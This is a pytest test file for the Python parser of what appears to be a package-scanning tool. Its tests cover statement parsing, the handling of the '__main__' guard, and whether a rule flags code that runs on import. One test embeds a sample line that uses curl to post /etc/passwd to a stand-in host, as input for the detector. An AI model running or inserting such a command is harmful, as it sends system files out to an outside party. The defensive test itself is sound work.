"""Python."""

from __future__ import annotations

from collections.abc import Callable

import pytest

from yanmen.supply.packages.reading import syntax as s
from yanmen.supply.packages.reading.python import MAIN, Python


def test_statements_of_every_kind_are_read() -> None:
    """try, with, match, async, star, walrus, f-strings."""
    text = """
async def f(a, *b, c=1, **d):
    async with x as y:
        await z
    async for i in j:
        yield i
    match a:
        case 1:
            pass
    try:
        raise E
    except* E:
        pass
    if (n := 1):
        return f"{a!r:>{c}}"
    return [k for k, in b if k], {k: v for k, v in d.items()}, lambda q=1: q
"""
    (node,) = Python.parse(text)

    assert isinstance(node, s.Func)
    assert node.name == "f"


def test_what_runs_only_as_a_program_is_apart() -> None:
    """The guard becomes a function that nobody calls."""
    (node,) = Python.parse("if __name__ == '__main__':\n    go()\n")

    assert isinstance(node, s.Func)
    assert node.name == MAIN


@pytest.mark.parametrize("text", ["print 'old'", "a(" * 500, "\x00", "def f(:"])
def test_what_is_no_python_is_said(text: str) -> None:
    """ValueError, whatever the compiler raises."""
    with pytest.raises(ValueError, match="Error"):
        Python.parse(text)


def test_what_only_a_script_does_is_not_done_on_import(rules_of: Callable[..., set[str]]) -> None:
    """Also where the question for it is one of two."""
    code = (
        "import subprocess, sys\n"
        "if sys.platform != 'win32' and __name__ == '__main__':\n"
        "    subprocess.run(['curl', '-d@/etc/passwd', 'https://takes.invalid'])\n"
    )

    assert rules_of(code.replace("and __name__ == '__main__'", ""), high=True)
    assert not rules_of(code, high=True)
